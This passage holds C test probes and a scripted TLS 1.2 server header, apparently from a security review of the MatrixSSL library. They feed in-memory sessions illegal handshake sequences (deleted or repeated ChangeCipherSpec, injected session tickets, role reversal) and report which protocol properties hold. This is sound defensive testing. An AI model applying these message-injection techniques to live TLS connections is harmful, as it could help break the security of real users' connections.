    int done = tcServerDone(tc);
    printf("  %-58s server: %s, alert %d, rc %d, hsState %d -> %s\n", name,
        done ? "HANDSHAKE COMPLETE" : "not complete", tc->svAlert, tc->svRc,
        tc->sv->hsState,
        done == expectComplete ? "as the property demands" :
        (done ? "PROPERTY VIOLATED" : "unexpected failure"));
}

/* start a handshake up to and including ClientKeyExchange */
static void upToCke(tc_t *tc)
{
    unsigned char m[1024];
    size_t l;

    l = tcClientHello(tc, 0, m);
    tcSend(tc, TC_REC_HS, m, l);
    l = tcClientKeyExchange(tc, m);
    tcSend(tc, TC_REC_HS, m, l);
}

int main(int argc, char **argv)
{
    tc_t tc;
    ssl_t *sv;
    unsigned char m[1024];
    size_t l;
    int ok;

    g_root = argc > 1 ? argv[1] : ".";
    g_verbose = argc > 2;
    if (matrixSslOpen() < 0)
    {
        return 0;
    }
    matrixSslNewKeys(&g_skeys, NULL);
    if (matrixSslLoadKeys(g_skeys, P(0, "RSA/2048_RSA.pem"),
            P(1, "RSA/2048_RSA_KEY.pem"), NULL, NULL, NULL) < 0)
    {
        printf("key load failed\n");
        return 0;
    }
    if (psX509ParseCertFile(NULL, P(0, "RSA/2048_RSA.pem"), &g_svCert, 0) < 0)
    {
        printf("cert parse failed\n");
        return 0;
    }
    printf("probe2 (scripted TLS 1.2 client, RSA key exchange, AES-128-GCM)\n");

    /* S0 */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    ok = tcFullHandshake(&tc);
    verdict("S0 legal full handshake", &tc, 1);
    if (!ok)
    {
        printf("  (the scripted client itself does not work - stop)\n");
        return 0;
    }
    matrixSslDeleteSession(sv);

    /* S1: Finished without ChangeCipherSpec */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    upToCke(&tc);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, l);
    verdict("S1 ChangeCipherSpec deleted (initial handshake)", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S2: ChangeCipherSpec before ClientKeyExchange */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    l = tcClientHello(&tc, 0, m);
    tcSend(&tc, TC_REC_HS, m, l);
    {
        static const unsigned char one = 1;
        tcSend(&tc, TC_REC_CCS, &one, 1);
    }
    verdict("S2 ChangeCipherSpec before ClientKeyExchange", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S3: ClientKeyExchange deleted */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    l = tcClientHello(&tc, 0, m);
    tcSend(&tc, TC_REC_HS, m, l);
    {
        unsigned char tmp[1024];
        tcClientKeyExchange(&tc, tmp);      /* computed, never sent */
        tc.trLen -= 4 + 2 + g_svCert->publicKey.keysize;
    }
    tcSendCCS(&tc);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, l);
    verdict("S3 ClientKeyExchange deleted", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S4: Finished starts before the ChangeCipherSpec and ends after it */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    upToCke(&tc);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, 8);           /* header + 4 bytes, in clear */
    tcSendCCS(&tc);
    tcSend(&tc, TC_REC_HS, m + 8, l - 8);   /* the rest, protected */
    verdict("S4 Finished begun before ChangeCipherSpec, ended after", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S5: ChangeCipherSpec twice (the second one under the new keys) */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    upToCke(&tc);
    tcSendCCS(&tc);
    tcSendCCS(&tc);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, l);
    verdict("S5 ChangeCipherSpec repeated", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S6: legal renegotiation */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    tcFullHandshake(&tc);
    tc.svComplete = 0;
    l = tcClientHello(&tc, 0, m);
    tcSend(&tc, TC_REC_HS, m, l);
    l = tcClientKeyExchange(&tc, m);
    tcSend(&tc, TC_REC_HS, m, l);
    tcSendCCS(&tc);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, l);
    printf("  (S6: server sent CCS %d, Finished %d, API reported complete %d)\n",
        tc.gotSvCCS, tc.gotSvFinished, tc.svComplete);
    verdict("S6 renegotiation attempt (rehandshakes compiled out)", &tc, 0);
    matrixSslDeleteSession(sv);

    /* S7: renegotiation, ChangeCipherSpec deleted: the Finished travels
       under the keys of the first handshake */
    sv = newServer(); tcInit(&tc, sv, g_svCert, g_verbose);
    tcFullHandshake(&tc);
    tc.svComplete = 0;
    l = tcClientHello(&tc, 0, m);
    tcSend(&tc, TC_REC_HS, m, l);
    l = tcClientKeyExchange(&tc, m);
    tcSend(&tc, TC_REC_HS, m, l);
    l = tcFinished(&tc, "client finished", m);
    tcSend(&tc, TC_REC_HS, m, l);
    printf("  (S7: server sent CCS %d, Finished %d, API reported complete %d)\n",
        tc.gotSvCCS, tc.gotSvFinished, tc.svComplete);
    verdict("S7 renegotiation with ChangeCipherSpec deleted", &tc, 0);
    matrixSslDeleteSession(sv);

    return 0;
}
