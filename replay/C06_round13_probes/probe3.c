/* quick check: client {TLS1.3,TLS1.2} against server TLS1.2-only, honest peers */
#include <stdio.h>
#include <string.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert) { return alert; }
static int pump(ssl_t *from, ssl_t *to)
{
    unsigned char *out, *in, *pt; uint32_t ptlen; int32_t n, rc = 0;
    while ((n = matrixSslGetOutdata(from, &out)) > 0) {
        matrixSslGetReadbufOfSize(to, n, &in); memcpy(in, out, n);
        matrixSslSentData(from, n);
        rc = matrixSslReceivedData(to, n, &pt, &ptlen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT) {
            if (rc == MATRIXSSL_RECEIVED_ALERT) printf("   alert %d/%d\n", pt[0], pt[1]);
            rc = matrixSslProcessedData(to, &pt, &ptlen);
        }
        if (rc < 0) { printf("   rc %d\n", rc); return rc; }
    }
    return rc;
}
int main(int argc, char **argv)
{
    sslKeys_t *sk, *ck; ssl_t *cl, *sv; sslSessOpts_t so, co; sslSessionId_t *sid;
    psProtocolVersion_t v12[1] = { v_tls_1_2 }, vb[2] = { v_tls_1_3, v_tls_1_2 };
    char a[512], b[512], c[512]; int i, round;
    matrixSslOpen();
    matrixSslNewKeys(&sk, NULL); matrixSslNewKeys(&ck, NULL);
    snprintf(a, 512, "%s/testkeys/RSA/2048_RSA.pem", argv[1]);
    snprintf(b, 512, "%s/testkeys/RSA/2048_RSA_KEY.pem", argv[1]);
    snprintf(c, 512, "%s/testkeys/RSA/ALL_RSA_CAS.pem", argv[1]);
    matrixSslLoadKeys(sk, a, b, NULL, c, NULL);
    matrixSslLoadKeys(ck, NULL, NULL, NULL, c, NULL);
    matrixSslNewSessionId(&sid, NULL);
    for (round = 0; round < 2; round++) {
        if (round == 1) { matrixSslSessionIdGetSessionId(sid)[7] ^= 0x55; printf("(session id offered in round 1 is unknown to the server)\n"); }
        memset(&so, 0, sizeof(so)); memset(&co, 0, sizeof(co));
        matrixSslSessOptsSetServerTlsVersions(&so, v12, 1);
        if (argc > 2) matrixSslSessOptsSetClientTlsVersions(&co, v12, 1); else matrixSslSessOptsSetClientTlsVersions(&co, vb, 2);
        matrixSslNewServerSession(&sv, sk, NULL, &so);
        if (matrixSslNewClientSession(&cl, ck, sid, NULL, 0, certCb, NULL, NULL, NULL, &co) < 0) { printf("client fail\n"); return 0; }
        for (i = 0; i < 6; i++) { if (pump(cl, sv) < 0) break; if (pump(sv, cl) < 0) break; }
        printf("round %d: client done %d server done %d resumed %d (client sessionIdLen %d)\n", round,
            matrixSslHandshakeIsComplete(cl), matrixSslHandshakeIsComplete(sv),
            (cl->flags & SSL_FLAGS_RESUMED) ? 1 : 0, cl->sessionIdLen);
        matrixSslDeleteSession(cl); matrixSslDeleteSession(sv);
    }
    return 0;
}
