/*
 * probe4 - side observations with a scripted TLS 1.2 *server* against an
 * in-memory MatrixSSL client. Reports only; exit status is always 0.
 */
#include "tinyserver.h"

static const char *g_root;
static char g_path[4][512];
static sslKeys_t *g_ckeys;
static psX509Cert_t *g_cert;
static psRsaKey_t g_priv;
static int g_verbose;

static const char *P(int i, const char *rel)
{
    snprintf(g_path[i], sizeof(g_path[i]), "%s/testkeys/%s", g_root, rel);
    return g_path[i];
}

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert;
    return alert;
}

static ssl_t *newClient(sslSessionId_t *sid, int tickets, int tls13too)
{
    ssl_t *cl = NULL;
    sslSessOpts_t co;
    psProtocolVersion_t v12[1] = { v_tls_1_2 };
    psProtocolVersion_t vb[2] = { v_tls_1_3, v_tls_1_2 };
    psCipher16_t cs12[1] = { 0x009C };
    psCipher16_t csb[2] = { 0x1301, 0x009C };
    int32_t rc;

    memset(&co, 0, sizeof(co));
    if (tls13too)
    {
        matrixSslSessOptsSetClientTlsVersions(&co, vb, 2);
    }
    else
    {
        matrixSslSessOptsSetClientTlsVersions(&co, v12, 1);
    }
    co.ticketResumption = tickets;
    rc = matrixSslNewClientSession(&cl, g_ckeys, sid,
            tls13too ? csb : cs12, tls13too ? 2 : 1, certCb, NULL, NULL,
            NULL, &co);
    if (rc < 0)
    {
        printf("client session failed %d\n", rc);
        exit(0);
    }
    return cl;
}

static void verdict(const char *name, ts_t *ts, int expectComplete)
{
    int done = tsClientDone(ts);
    printf("  %-60s client: %s, alert %d, rc %d, hsState %d -> %s\n", name,
        done ? "HANDSHAKE COMPLETE" : "not complete", ts->clAlert, ts->clRc,
        ts->cl->hsState,
        done == expectComplete ? "as the property demands" :
        (done ? "PROPERTY VIOLATED" : "unexpected failure"));
}

/* up to (and including) the client's Finished */
static void upToClientFinished(ts_t *ts, int ticketExt)
{
    static unsigned char m[8300];
    size_t l;

    tsDrain(ts);
    l = tsServerHello(ts, 0, ticketExt, m);
    tsSend(ts, TC_REC_HS, m, l);
    l = tsCertificate(ts, m);
    tsSend(ts, TC_REC_HS, m, l);
    l = tsMsg(ts, TC_HS_SH_DONE, NULL, 0, m, 1);
    tsSend(ts, TC_REC_HS, m, l);
}

int main(int argc, char **argv)
{
    ts_t ts;
    ssl_t *cl;
    sslSessionId_t *sid;
    static unsigned char m[8300];
    size_t l;
    static const unsigned char tkt[40] = "an-opaque-ticket-from-the-script-server";

    g_root = argc > 1 ? argv[1] : ".";
    g_verbose = argc > 2;
    if (matrixSslOpen() < 0)
    {
        return 0;
    }
    matrixSslNewKeys(&g_ckeys, NULL);
    if (matrixSslLoadKeys(g_ckeys, NULL, NULL, NULL,
            P(2, "RSA/2048_RSA_CA.pem"), NULL) < 0)
    {
        printf("CA load failed\n");
        return 0;
    }
    if (psX509ParseCertFile(NULL, P(0, "RSA/2048_RSA.pem"), &g_cert,
            CERT_STORE_UNPARSED_BUFFER) < 0 ||
        psPkcs1ParsePrivFile(NULL, P(1, "RSA/2048_RSA_KEY.pem"), NULL,
            &g_priv) < 0)
    {
        printf("server credentials failed\n");
        return 0;
    }
    printf("probe4 (scripted TLS 1.2 server, RSA key exchange, AES-128-GCM)\n");

    /* C0 */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    if (!tsFullHandshake(&ts, NULL, 0))
    {
        verdict("C0 legal full handshake", &ts, 1);
        printf("  (the scripted server itself does not work - stop)\n");
        return 0;
    }
    verdict("C0 legal full handshake", &ts, 1);
    matrixSslDeleteSession(cl);

    /* C1: server ChangeCipherSpec deleted */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 0);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    verdict("C1 server ChangeCipherSpec deleted", &ts, 0);
    matrixSslDeleteSession(cl);

    /* C2: Finished begun before the ChangeCipherSpec */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 0);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, 8);
    tsSendCCS(&ts);
    tsSend(&ts, TC_REC_HS, m + 8, l - 8);
    verdict("C2 Finished begun before ChangeCipherSpec, ended after", &ts, 0);
    matrixSslDeleteSession(cl);

    /* C3: ChangeCipherSpec repeated */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 0);
    tsSendCCS(&ts);
    tsSendCCS(&ts);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    verdict("C3 ChangeCipherSpec repeated", &ts, 0);
    matrixSslDeleteSession(cl);

    /* C4: NewSessionTicket although no SessionTicket extension was agreed */
    matrixSslNewSessionId(&sid, NULL);
    cl = newClient(sid, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 0);
    l = tsNewSessionTicket(&ts, tkt, sizeof(tkt), m);
    tsSend(&ts, TC_REC_HS, m, l);
    tsSendCCS(&ts);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    verdict("C4 NewSessionTicket injected (extension not negotiated)", &ts, 0);
    matrixSslDeleteSession(cl);
    matrixSslDeleteSessionId(sid);

    /* C5: legal ticket issuing handshake */
    matrixSslNewSessionId(&sid, NULL);
    cl = newClient(sid, 1, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    tsFullHandshake(&ts, tkt, sizeof(tkt));
    printf("  (C5: client offered ticket ext %d; sid ticket state now %d)\n",
        ts.clOfferedTicket, sid->sessionTicketState);
    verdict("C5 legal handshake that issues a ticket", &ts, 1);
    matrixSslDeleteSession(cl);

    /* C6: NewSessionTicket twice */
    matrixSslClearSessionId(sid);
    cl = newClient(sid, 1, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 1);
    l = tsNewSessionTicket(&ts, tkt, sizeof(tkt), m);
    tsSend(&ts, TC_REC_HS, m, l);
    l = tsNewSessionTicket(&ts, tkt, sizeof(tkt), m);
    tsSend(&ts, TC_REC_HS, m, l);
    tsSendCCS(&ts);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    verdict("C6 NewSessionTicket repeated", &ts, 0);
    matrixSslDeleteSession(cl);

    /* C7: extension answered, NewSessionTicket omitted; then the same
       session id object is used for a connection that does not ask for a
       ticket, and the server sends one */
    matrixSslClearSessionId(sid);
    cl = newClient(sid, 1, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    upToClientFinished(&ts, 1);
    tsSendCCS(&ts);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    printf("  (C7a: sid ticket state after the handshake: %d)\n",
        sid->sessionTicketState);
    verdict("C7a SessionTicket ext answered but NewSessionTicket omitted",
        &ts, 0);
    matrixSslDeleteSession(cl);
    cl = newClient(sid, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    tsDrain(&ts);
    printf("  (C7b: client offered ticket ext %d, session id len %d)\n",
        ts.clOfferedTicket, ts.csidLen);
    l = tsServerHello(&ts, 0, 0, m);
    tsSend(&ts, TC_REC_HS, m, l);
    l = tsCertificate(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    l = tsMsg(&ts, TC_HS_SH_DONE, NULL, 0, m, 1);
    tsSend(&ts, TC_REC_HS, m, l);
    l = tsNewSessionTicket(&ts, tkt, sizeof(tkt), m);
    tsSend(&ts, TC_REC_HS, m, l);
    tsSendCCS(&ts);
    l = tsFinished(&ts, m);
    tsSend(&ts, TC_REC_HS, m, l);
    verdict("C7b next connection: NewSessionTicket without extension", &ts, 0);
    matrixSslDeleteSession(cl);
    matrixSslDeleteSessionId(sid);

    /* C8: HelloRequest in front of the ServerHello */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    tsDrain(&ts);
    l = tsMsg(&ts, 0, NULL, 0, m, 0);
    tsSend(&ts, TC_REC_HS, m, l);
    if (ts.clAlert < 0 && ts.clRc == 0)
    {
        tsFullHandshake(&ts, NULL, 0);
    }
    verdict("C8 HelloRequest before ServerHello", &ts, 0);
    matrixSslDeleteSession(cl);

    /* C9: after completion the server sends a ClientHello to the client */
    cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
    tsFullHandshake(&ts, NULL, 0);
    {
        int before = ts.gotCH;
        ts.verbose = 1;
        printf("  C9 server sends the client's own ClientHello back to it "
            "after completion:\n");
        tsSend(&ts, TC_REC_HS, ts.lastCH, ts.lastCHLen);
        printf("  C9 client: hsState %d, error flag %d, alert %d, rc %d, "
            "new ClientHellos %d\n", cl->hsState,
            (cl->flags & SSL_FLAGS_ERROR) ? 1 : 0, ts.clAlert, ts.clRc,
            ts.gotCH - before);
    }
    matrixSslDeleteSession(cl);

    /* C10: the same with a client that has an identity (certificate and
       key for client authentication) loaded */
    {
        sslKeys_t *idkeys = NULL;
        sslKeys_t *saved = g_ckeys;
        matrixSslNewKeys(&idkeys, NULL);
        if (matrixSslLoadKeys(idkeys, P(0, "RSA/3072_RSA.pem"),
                P(1, "RSA/3072_RSA_KEY.pem"), NULL,
                P(2, "RSA/2048_RSA_CA.pem"), NULL) < 0)
        {
            printf("  C10 identity load failed\n");
            return 0;
        }
        g_ckeys = idkeys;
        cl = newClient(NULL, 0, 0); tsInit(&ts, cl, g_cert, &g_priv, g_verbose);
        tsFullHandshake(&ts, NULL, 0);
        {
            int before = ts.gotCH;
            ts.verbose = 1;
            printf("  C10 (client with identity) server sends a ClientHello "
                "after completion:\n");
            tsSend(&ts, TC_REC_HS, ts.lastCH, ts.lastCHLen);
            printf("  C10 client: hsState %d, error flag %d, alert %d, rc %d, "
                "new ClientHellos %d\n", cl->hsState,
                (cl->flags & SSL_FLAGS_ERROR) ? 1 : 0, ts.clAlert, ts.clRc,
                ts.gotCH - before);
        }
        matrixSslDeleteSession(cl);

        /* C11: carry the reversed handshake through to the end */
        {
            tc_t tc;
            psX509Cert_t *idCert = NULL;
            unsigned char mm[1024];
            size_t ll;

            psX509ParseCertFile(NULL, P(0, "RSA/3072_RSA.pem"), &idCert, 0);
            cl = newClient(NULL, 0, 0);
            tsInit(&ts, cl, g_cert, &g_priv, 0);
            tsFullHandshake(&ts, NULL, 0);
            printf("  C11 first handshake (client as client) complete: %d\n",
                tsClientDone(&ts));
            tcInit(&tc, cl, idCert, g_verbose);
            tc.w = ts.w;        /* keys of the established connection */
            tc.r = ts.r;
            ll = tcClientHello(&tc, 0, mm);
            tcSend(&tc, TC_REC_HS, mm, ll);
            printf("  C11 client object answered the ClientHello with "
                "ServerHello %d, ServerHelloDone %d\n", tc.gotSH, tc.gotSHD);
            if (tc.gotSHD)
            {
                ll = tcClientKeyExchange(&tc, mm);
                tcSend(&tc, TC_REC_HS, mm, ll);
                tcSendCCS(&tc);
                /* the client object still lays out the key block as a
                   client: it reads with the "server write" key */
                memcpy(tc.w.key, tc.swk, 16);
                memcpy(tc.w.iv, tc.swiv, 4);
                /* the client object expects the label of its peer role */
                ll = tcFinished(&tc, "server finished", mm);
                tcSend(&tc, TC_REC_HS, mm, ll);
                printf("  C11 after ClientKeyExchange, ChangeCipherSpec, "
                    "Finished sent TO THE CLIENT: hsState %d, error flag %d, "
                    "alert %d, rc %d, it sent CCS %d Finished %d, API said "
                    "complete %d times\n", cl->hsState,
                    (cl->flags & SSL_FLAGS_ERROR) ? 1 : 0, tc.svAlert,
                    tc.svRc, tc.gotSvCCS, tc.gotSvFinished, tc.svComplete);
                printf("  %-60s %s\n",
                    "C11 ClientHello sent to a client (role reversal)",
                    tcServerDone(&tc) ? "HANDSHAKE COMPLETE -> PROPERTY VIOLATED"
                    : "not complete");
            }
            matrixSslDeleteSession(cl);
        }
        g_ckeys = saved;
    }

    return 0;
}
