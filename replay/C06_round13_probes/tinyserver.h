/*
 * tinyserver.h - a scripted TLS 1.2 server (TLS_RSA_WITH_AES_128_GCM_SHA256)
 * that talks to an in-memory MatrixSSL *client* session. The counterpart of
 * tinyclient.h: every message and record is built by hand.
 */
#ifndef TINYSERVER_H
#define TINYSERVER_H

#include "tinyclient.h"

typedef struct
{
    ssl_t *cl;                      /* client under test */
    psX509Cert_t *cert;             /* our certificate (DER kept) */
    psRsaKey_t *priv;               /* our private key */
    unsigned char crand[32], srnd[32];
    unsigned char csid[32];         /* session id the client offered */
    int csidLen;
    unsigned char sid[32];          /* session id we answer with */
    int sidLen;
    unsigned char master[48];
    unsigned char cwk[16], swk[16], cwiv[4], swiv[4];
    tcDir_t w, r;
    unsigned char tr[32768];
    size_t trLen;
    unsigned char hsbuf[32768];
    size_t hsLen;
    unsigned char lastCH[2048];     /* last ClientHello (with header) */
    size_t lastCHLen;
    int clAlert;                    /* fatal alert the client sent, or -1 */
    int clRc;                       /* negative rc of the client API, or 0 */
    int clComplete;
    int gotCH, gotCKE, gotClCCS, gotClFinished, gotClCert, gotClCV;
    int clOfferedTicket;            /* SessionTicket extension seen */
    unsigned char clTicket[1024];
    size_t clTicketLen;
    int verbose;
} ts_t;

static void tsKeyBlock(ts_t *ts)
{
    unsigned char kb[40];

    tcPrf(ts->master, 48, "key expansion", ts->srnd, 32, ts->crand, 32,
        kb, sizeof(kb));
    memcpy(ts->cwk, kb, 16);
    memcpy(ts->swk, kb + 16, 16);
    memcpy(ts->cwiv, kb + 32, 4);
    memcpy(ts->swiv, kb + 36, 4);
}

static void tsActivateWrite(ts_t *ts)
{
    memcpy(ts->w.key, ts->swk, 16);
    memcpy(ts->w.iv, ts->swiv, 4);
    memset(ts->w.seq, 0, 8);
    ts->w.on = 1;
}

static void tsActivateRead(ts_t *ts)
{
    memcpy(ts->r.key, ts->cwk, 16);
    memcpy(ts->r.iv, ts->cwiv, 4);
    memset(ts->r.seq, 0, 8);
    ts->r.on = 1;
}

static void tsParseClientHello(ts_t *ts, const unsigned char *b, size_t len)
{
    size_t o = 2, n, extEnd;

    memcpy(ts->crand, b + o, 32); o += 32;
    ts->csidLen = b[o++];
    memcpy(ts->csid, b + o, ts->csidLen); o += ts->csidLen;
    n = ((size_t) b[o] << 8) | b[o + 1]; o += 2 + n;       /* suites */
    n = b[o]; o += 1 + n;                                  /* compression */
    ts->clOfferedTicket = 0;
    ts->clTicketLen = 0;
    if (o + 2 <= len)
    {
        extEnd = o + 2 + (((size_t) b[o] << 8) | b[o + 1]);
        o += 2;
        while (o + 4 <= extEnd && extEnd <= len)
        {
            unsigned t = (b[o] << 8) | b[o + 1];
            size_t l = ((size_t) b[o + 2] << 8) | b[o + 3];
            if (t == 35)
            {
                ts->clOfferedTicket = 1;
                ts->clTicketLen = l < sizeof(ts->clTicket) ? l : 0;
                memcpy(ts->clTicket, b + o + 4, ts->clTicketLen);
            }
            o += 4 + l;
        }
    }
}

static void tsHandleClientHs(ts_t *ts, int type, const unsigned char *msg,
        size_t len)
{
    const unsigned char *b = msg + 4;

    if (ts->verbose)
    {
        printf("      <- handshake type %d (%u bytes)\n", type,
            (unsigned) len - 4);
    }
    if (type == TC_HS_CLIENT_HELLO)
    {
        ts->trLen = 0;
        ts->gotCH++;
        memcpy(ts->lastCH, msg, len < sizeof(ts->lastCH) ? len : 0);
        ts->lastCHLen = len;
        tsParseClientHello(ts, b, len - 4);
    }
    if (type == TC_HS_FINISHED)
    {
        ts->gotClFinished++;
    }
    if (type == TC_HS_CERTIFICATE)
    {
        ts->gotClCert++;
    }
    if (type == TC_HS_CERT_VERIFY)
    {
        ts->gotClCV++;
    }
    if (ts->trLen + len <= sizeof(ts->tr))
    {
        memcpy(ts->tr + ts->trLen, msg, len);
        ts->trLen += len;
    }
    if (type == TC_HS_CKE)
    {
        unsigned char pm[64];
        size_t kl = ((size_t) b[0] << 8) | b[1];
        unsigned char tmp[600];

        memcpy(tmp, b + 2, kl);
        if (psRsaDecryptPriv(NULL, ts->priv, tmp, (psSize_t) kl, pm, 48,
                NULL) < 0)
        {
            printf("      RSA decryption of the premaster failed\n");
        }
        tcPrf(pm, 48, "master secret", ts->crand, 32, ts->srnd, 32,
            ts->master, 48);
        tsKeyBlock(ts);
        ts->gotCKE++;
    }
}

static void tsHandleClientRecord(ts_t *ts, int type, const unsigned char *p,
        size_t len)
{
    unsigned char pt[17000];
    size_t ptLen = len;

    if (ts->r.on)
    {
        if (tcUnprotect(&ts->r, type, p, len, pt, &ptLen) < 0)
        {
            printf("      <- record type %d: cannot decrypt!\n", type);
            return;
        }
        p = pt;
    }
    switch (type)
    {
    case TC_REC_CCS:
        if (ts->verbose)
        {
            printf("      <- ChangeCipherSpec\n");
        }
        ts->gotClCCS++;
        tsActivateRead(ts);
        break;
    case TC_REC_ALERT:
        if (ts->verbose)
        {
            printf("      <- alert level %d description %d\n", p[0], p[1]);
        }
        if (p[0] == 2)
        {
            ts->clAlert = p[1];
        }
        break;
    case TC_REC_HS:
        memcpy(ts->hsbuf + ts->hsLen, p, ptLen);
        ts->hsLen += ptLen;
        while (ts->hsLen >= 4)
        {
            size_t ml = ((size_t) ts->hsbuf[1] << 16) |
                ((size_t) ts->hsbuf[2] << 8) | ts->hsbuf[3];
            if (ts->hsLen < ml + 4)
            {
                break;
            }
            tsHandleClientHs(ts, ts->hsbuf[0], ts->hsbuf, ml + 4);
            memmove(ts->hsbuf, ts->hsbuf + ml + 4, ts->hsLen - ml - 4);
            ts->hsLen -= ml + 4;
        }
        break;
    default:
        break;
    }
}

static void tsDrain(ts_t *ts)
{
    unsigned char *out;
    unsigned char copy[20000];
    int32_t n;
    size_t off;

    while ((n = matrixSslGetOutdata(ts->cl, &out)) > 0)
    {
        int32_t rc;
        if ((size_t) n > sizeof(copy))
        {
            n = sizeof(copy);
        }
        memcpy(copy, out, n);
        rc = matrixSslSentData(ts->cl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            ts->clComplete++;
        }
        off = 0;
        while (off + 5 <= (size_t) n)
        {
            size_t rl = ((size_t) copy[off + 3] << 8) | copy[off + 4];
            if (off + 5 + rl > (size_t) n)
            {
                break;
            }
            tsHandleClientRecord(ts, copy[off], copy + off + 5, rl);
            off += 5 + rl;
        }
        if (rc == MATRIXSSL_REQUEST_CLOSE)
        {
            break;
        }
    }
}

static int32_t tsFeed(ts_t *ts, const unsigned char *rec, size_t len)
{
    unsigned char *in, *pt;
    uint32_t ptLen;
    int32_t rc;

    if (matrixSslGetReadbufOfSize(ts->cl, (int32_t) len, &in) < (int32_t) len)
    {
        return -999;
    }
    memcpy(in, rec, len);
    rc = matrixSslReceivedData(ts->cl, (uint32_t) len, &pt, &ptLen);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        rc = matrixSslProcessedData(ts->cl, &pt, &ptLen);
    }
    if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
    {
        ts->clComplete++;
    }
    if (rc < 0)
    {
        ts->clRc = rc;
    }
    if (ts->verbose)
    {
        printf("      (client ReceivedData rc %d)\n", rc);
    }
    tsDrain(ts);
    return rc;
}

static size_t tsRecord(ts_t *ts, int type, const unsigned char *data,
        size_t len, unsigned char *out)
{
    size_t bl;

    out[0] = (unsigned char) type; out[1] = 3; out[2] = 3;
    if (ts->w.on)
    {
        bl = tcProtect(&ts->w, type, data, len, out + 5);
    }
    else
    {
        memcpy(out + 5, data, len);
        bl = len;
    }
    out[3] = (unsigned char) (bl >> 8); out[4] = (unsigned char) bl;
    return bl + 5;
}

static int32_t tsSend(ts_t *ts, int type, const unsigned char *data, size_t len)
{
    unsigned char rec[17000];
    size_t rl = tsRecord(ts, type, data, len, rec);

    if (ts->verbose)
    {
        if (type == TC_REC_HS)
        {
            printf("      -> handshake record, first byte %d, %u bytes%s\n",
                data[0], (unsigned) len, ts->w.on ? " (protected)" : "");
        }
        else
        {
            printf("      -> record type %d%s\n", type,
                ts->w.on ? " (protected)" : "");
        }
    }
    return tsFeed(ts, rec, rl);
}

static size_t tsMsg(ts_t *ts, int type, const unsigned char *body, size_t len,
        unsigned char *out, int hashIt)
{
    out[0] = (unsigned char) type;
    out[1] = (unsigned char) (len >> 16);
    out[2] = (unsigned char) (len >> 8);
    out[3] = (unsigned char) len;
    if (len)
    {
        memcpy(out + 4, body, len);
    }
    if (hashIt)
    {
        memcpy(ts->tr + ts->trLen, out, len + 4);
        ts->trLen += len + 4;
    }
    return len + 4;
}

/* echoSid: answer with the session id the client offered (= "resumed") */
static size_t tsServerHello(ts_t *ts, int echoSid, int ticketExt,
        unsigned char *out)
{
    unsigned char b[256];
    size_t n = 0;
    int i;

    for (i = 0; i < 32; i++)
    {
        ts->srnd[i] = (unsigned char) (rand() & 0xff);
    }
    b[n++] = 3; b[n++] = 3;
    memcpy(b + n, ts->srnd, 32); n += 32;
    if (echoSid)
    {
        ts->sidLen = ts->csidLen;
        memcpy(ts->sid, ts->csid, ts->csidLen);
    }
    else
    {
        ts->sidLen = 32;
        for (i = 0; i < 32; i++)
        {
            ts->sid[i] = (unsigned char) (rand() & 0xff);
        }
    }
    b[n++] = (unsigned char) ts->sidLen;
    memcpy(b + n, ts->sid, ts->sidLen); n += ts->sidLen;
    b[n++] = 0x00; b[n++] = 0x9C;
    b[n++] = 0;
    if (ticketExt)
    {
        b[n++] = 0; b[n++] = 4;
        b[n++] = 0; b[n++] = 35; b[n++] = 0; b[n++] = 0;
